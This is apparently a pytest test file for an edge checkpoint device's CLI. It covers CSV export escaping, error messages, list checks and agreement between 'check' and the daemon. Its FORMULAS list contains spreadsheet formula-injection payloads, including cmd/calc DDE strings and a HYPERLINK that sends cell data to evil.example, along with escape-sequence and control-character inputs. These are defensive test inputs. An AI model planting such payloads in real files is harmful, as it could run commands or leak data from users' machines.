"""The device's command line against what a careless or hostile hand gives it, and `checkpoint check`
answering exactly as the running gate does."""
from __future__ import annotations

import csv
import io
import json
import os

import pytest

from edge.common.clock import boot_id, mono_ns, wall_ms
from edge.entries.store import Entry, EntryStore
from edge.lists import ListStore

from .conftest import run_checkpoint

LINES = '[source]\ntype = "lines"\npath = "{path}"\n'
# (A leading CR is neutralised by csv_cell too, but edge/entries/export.py's writer leaves a CR unquoted, which no
# CSV reader reads back: that is the writer's to fix, and the pipeline records no raw control character.)
FORMULAS = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "-2+3+cmd|' /C calc'!A0",
            "\tx", "=1+2"]


def record(state, codes, *, wall=None, decision="allow"):
    store = EntryStore(state / "entries.db")
    for code in codes:
        assert store.record(Entry(Entry.new_id(), "test-01", wall or wall_ms(), mono_ns(), boot_id(), "test", code,
                                  decision, "listed", None, None, None))
    store.close()


def with_decision(config, text: str):
    """Add keys to the config's [decision] table."""
    config.write_text(config.read_text().replace("[decision]\n", "[decision]\n" + text, 1))


# ---- exports ------------------------------------------------------------------------------------
def test_csv_export_neutralises_formulas_and_json_stays_exact(make_config, cli):
    config = make_config('[source]\ntype = "lines"\n')
    codes = FORMULAS + ["plain", "Phạm Thu Hương", "'quoted"]
    record(config.parent / "state", codes)
    status, out, _ = cli("entries", "--config", config)
    assert status == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["code"] for row in rows] == ["'" + code for code in FORMULAS] + ["plain", "Phạm Thu Hương", "'quoted"]
    # No cell of the export starts a formula; numbers stay numbers.
    for row in rows:
        assert not any(str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
        assert row["wall_ms"].isdigit()
    status, out, _ = cli("entries", "--config", config, "--format", "json")
    assert [json.loads(line)["code"] for line in out.splitlines()] == codes


@pytest.mark.parametrize("since", ["yesterday", "99999999999999999999d", "2026-13-45", "\x1b[2J"])
def test_a_wrong_since_is_a_usage_error(make_config, cli, since):
    config = make_config('[source]\ntype = "lines"\n')
    record(config.parent / "state", ["x"])
    status, out, err = cli("entries", "--config", config, "--since", since)
    assert status == 2 and out == "" and err.count("\n") == 1 and "--since" in err and "\x1b" not in err


# ---- files given on the command line --------------------------------------------------------------
def test_file_arguments_name_the_real_trouble_in_one_line(tmp_path, make_config, cli):
    config = make_config('[source]\ntype = "lines"\n')
    loop = tmp_path / "loop.csv"
    os.symlink(tmp_path / "other.csv", loop)
    os.symlink(loop, tmp_path / "other.csv")
    status, _, err = cli("list", "import", "people", loop, "--config", config)
    assert status == 1 and "symbolic link loop" in err and err.count("\n") == 1
    status, _, err = cli("list", "import", "people", tmp_path / "no\nsuch\x1b.csv", "--config", config)
    assert status == 1 and "no\\x0asuch\\x1b.csv" in err and err.count("\n") == 1
    status, _, err = cli("config", "check", loop)
    assert status == 2 and "symbolic link loop" in err
    status, _, err = cli("check", "x", "--config", loop)
    assert status == 2 and "symbolic link loop" in err and err.count("\n") == 1


def test_a_list_import_error_is_one_capped_line(tmp_path, make_config, cli):
    config = make_config('[source]\ntype = "lines"\n')
    path = tmp_path / "wide.csv"
    path.write_text("code," + ",".join(f"col{i}" for i in range(100_000)) + "\n")
    status, _, err = cli("list", "import", "people", path, "--config", config)
    assert status == 1 and err.count("\n") == 1 and len(err) < 500
    assert "'col0'" in err and "and 99997 more" in err and "the list is unchanged" in err


# ---- missing lists --------------------------------------------------------------------------------
def test_config_check_lists_warns_of_missing_lists_and_strict_fails(tmp_path, make_config, cli):
    config = make_config('[source]\ntype = "lines"\n')
    with_decision(config, 'lists = ["people", "absent"]\n')
    assert cli("config", "check", config)[0] == 0  # without --lists the file alone is judged
    people = tmp_path / "people.csv"
    people.write_text("code\nOK\n")
    assert cli("list", "import", "people", people, "--config", config)[0] == 0
    status, out, _ = cli("config", "check", "--lists", config)
    assert status == 0
    assert "list people: v1, 1 entries" in out
    assert "warning: list absent is named in [decision] lists but is not on this device" in out
    assert "list-missing (deny)" in out
    status, out, err = cli("config", "check", "--lists", "--strict", config)
    assert status == 1 and "absent" in err and err.count("\n") == 1
    # Every list consulted (none named): nothing can be missing.
    config.write_text(config.read_text().replace('lists = ["people", "absent"]\n', ""))
    status, out, _ = cli("config", "check", "--lists", "--strict", config)
    assert status == 0 and "warning" not in out and "list people: v1" in out


# ---- `checkpoint check` answers as the gate does ----------------------------------------------------
def daemon_decisions(config, tmp_path, codes, name):
    """Run the real daemon over these codes (a lines file), and return what it recorded for them."""
    scans = tmp_path / f"{name}.txt"
    scans.write_text("".join(code + "\n" for code in codes))
    config.write_text(config.read_text().replace(LINES.format(path=tmp_path / "none.txt"),
                                                 LINES.format(path=scans)))
    result = run_checkpoint("run", "--config", config)
    assert result.returncode == 0, result.stderr
    config.write_text(config.read_text().replace(LINES.format(path=scans),
                                                 LINES.format(path=tmp_path / "none.txt")))
    status = run_checkpoint("entries", "--config", config, "--format", "json")
    recorded = [json.loads(line) for line in status.stdout.splitlines()]
    ours = [e for e in recorded if e["source"] != "test"][-len(codes):]
    assert [e["code"] for e in ours] == codes
    return [(e["decision"], e["reason"]) for e in ours]


def check(cli, config, code):
    status, out, err = cli("check", "--json", "--config", config, code)
    assert status == 0, err
    result = json.loads(out)
    return (result["decision"], result["reason"]), result


SCENARIOS = {
    # The newest entry lies a day ahead: the clock is behind the entries, so windows cannot be judged;
    # the list 'absent' is missing, so a stranger is list-missing (deny in allowlist mode).
    "untrusted-clock": dict(mode="allowlist", decision='lists = ["people", "absent"]\n',
                            future_entry=True, age_h=0,
                            expected={"OK": ("allow", "listed"), "WIN": ("review", "clock-untrusted"),
                                      "BAN": ("deny", "deny-listed"), "stranger": ("deny", "list-missing")}),
    # A trusted clock and a list older than its maximum age: an allow becomes a deny (stale_lists = deny);
    # in denylist mode a missing list sends a stranger to review.
    "stale-list": dict(mode="denylist", decision='lists = ["people", "absent"]\nlist_max_age_h = 1\n'
                                                 'stale_lists = "deny"\n',
                       future_entry=False, age_h=3,
                       expected={"OK": ("deny", "list-stale"), "WIN": ("deny", "list-stale"),
                                 "BAN": ("deny", "deny-listed"), "stranger": ("review", "list-missing")}),
}


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_check_answers_exactly_as_the_running_daemon(tmp_path, make_config, cli, scenario):
    spec = SCENARIOS[scenario]
    config = make_config(LINES.format(path=tmp_path / "none.txt"), mode=spec["mode"], debounce_ms=0,
                         repeat=3600)
    with_decision(config, spec["decision"])
    people = tmp_path / "people.csv"
    people.write_text("code,action,valid_from,valid_until\nOK,allow,,\nWIN,allow,2020-01-01,2099-12-31\n"
                      "BAN,deny,,\n")
    assert cli("list", "import", "people", people, "--config", config)[0] == 0
    state = config.parent / "state"
    if spec["age_h"]:
        lists = ListStore(state / "lists.db")
        lists.conn.execute("UPDATE lists SET imported_ms = imported_ms - ?", (spec["age_h"] * 3_600_000,))
        lists.close()
    if spec["future_entry"]:
        record(state, ["seed"], wall=wall_ms() + 86_400_000)
    codes = list(spec["expected"])
    answers = {code: check(cli, config, code) for code in codes}
    assert {code: answer[0] for code, answer in answers.items()} == spec["expected"]
    assert answers["stranger"][1]["missing_lists"] == ["absent"]
    assert answers["OK"][1]["clock_trusted"] is (not spec["future_entry"])
    status, out, _ = cli("check", "--config", config, "WIN")
    assert "note: list absent is named in [decision] lists but is not on this device" in out
    assert ("note: the clock is not trusted (behind-entries)" in out) is spec["future_entry"]
    assert daemon_decisions(config, tmp_path, codes, "first") == [spec["expected"][c] for c in codes]


def test_check_sees_a_repeat_as_the_daemon_does(tmp_path, make_config, cli):
    config = make_config(LINES.format(path=tmp_path / "none.txt"), repeat=3600, debounce_ms=0)
    people = tmp_path / "people.csv"
    people.write_text("code\nOK\n")
    assert cli("list", "import", "people", people, "--config", config)[0] == 0
    assert check(cli, config, "OK")[0] == ("allow", "listed")
    assert daemon_decisions(config, tmp_path, ["OK"], "first") == [("allow", "listed")]
    assert check(cli, config, "OK")[0] == ("review", "repeated")
    assert daemon_decisions(config, tmp_path, ["OK"], "second") == [("review", "repeated")]
